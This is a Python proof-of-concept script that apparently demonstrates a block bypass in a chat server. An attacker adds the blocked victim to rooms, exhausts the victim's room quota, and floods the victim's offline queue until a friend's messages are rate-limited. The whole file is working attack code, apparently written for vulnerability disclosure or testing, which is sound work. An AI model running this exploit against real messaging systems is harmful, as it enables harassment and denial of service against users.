"""A user blocked by the victim (or a stranger under --dm-policy contacts) reaches the victim anyway:
AddMember/CreateRoom{members} put the victim in the attacker's rooms without consent, room messages
then reach the victim live and fill its offline queue (so its friends' DMs get RATE_LIMITED), and the
victim's --max-rooms-per-user quota is used up (its own CreateRoom/JoinRoom RATE_LIMITED).
usage: block_bypass_rooms.py TCP PID HTTP DATADIR NROOMS NMSGS"""
import sys, os, time
sys.path.insert(0, os.path.dirname(__file__))
from common import *
addr, pid, http, ddir = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
nrooms, nmsgs = int(sys.argv[5]), int(sys.argv[6])
st = lambda d: d.get(2, [0])[0]
m = Conn(addr, "mallory")
v = Conn(addr, "victim")
f = Conn(addr, "friend")
v.send_frame(20, {1: 1, 2: "mallory", 3: 5}); r = v.wait("contact_result"); print("victim blocks mallory:", st(r))
m.send_frame(2, {1: 2, 2: "victim", 4: "dm", 5: True}); r = m.wait("send_result"); print("mallory DM to victim:", st(r), "(5=FORBIDDEN)")
m.send_frame(20, {1: 3, 2: "victim", 3: 1}); r = m.wait("contact_result"); print("mallory contact request:", st(r))
m.send_frame(10, {1: 4, 2: "spam-0", 4: ["victim"]}); r = m.wait("room_result"); print("mallory CreateRoom spam-0 members=[victim]:", st(r))
ev = v.wait("room_event"); print("victim got RoomEvent:", ev)
m.send_frame(2, {1: 5, 3: "spam-0", 4: "you blocked me, hello anyway", 5: True}); print("room send:", st(m.wait("send_result")))
d = v.wait("deliver"); print("victim got Deliver from", d.get(2), d.get(4))
v.ack()
# quota
t0 = time.time()
for i in range(1, nrooms):
    m.send_frame(10, {1: 100 + i, 2: f"spam-{i}", 4: ["victim"]})
ok = 0; codes = {}
for i in range(1, nrooms):
    r = m.wait("room_result", 60); c = st(r); codes[c] = codes.get(c, 0) + 1
print(f"mallory created {nrooms-1} more rooms with victim in {time.time()-t0:.1f}s: {codes}")
v.drain(0.5)
v.send_frame(10, {1: 7, 2: "victims-own-room"}); r = v.wait("room_result"); print("victim CreateRoom own room:", st(r), r.get(3))
v.send_frame(11, {1: 8, 2: "friends-room"}); r = v.wait("room_result"); print("victim JoinRoom:", st(r), r.get(3))
# offline queue fill
v.close(); time.sleep(0.3)
print("before fill:", state(pid, ddir, http))
t0 = time.time()
pay = b"x" * 64
for i in range(nmsgs):
    m.send_frame(2, {3: "spam-0", 4: pay})
    if i % 2000 == 1999:
        m.send_frame(4, {1: i}); m.wait("pong", 60)
m.send_frame(2, {1: 9, 3: "spam-0", 4: pay, 5: True}); print("last room send:", st(m.wait("send_result", 60)))
print(f"filled in {time.time()-t0:.1f}s:", state(pid, ddir, http))
f.send_frame(2, {1: 10, 2: "victim", 4: "hi from a friend", 5: True}); r = f.wait("send_result"); print("friend's DM to victim:", st(r), r.get(3), "(9=RATE_LIMITED)")
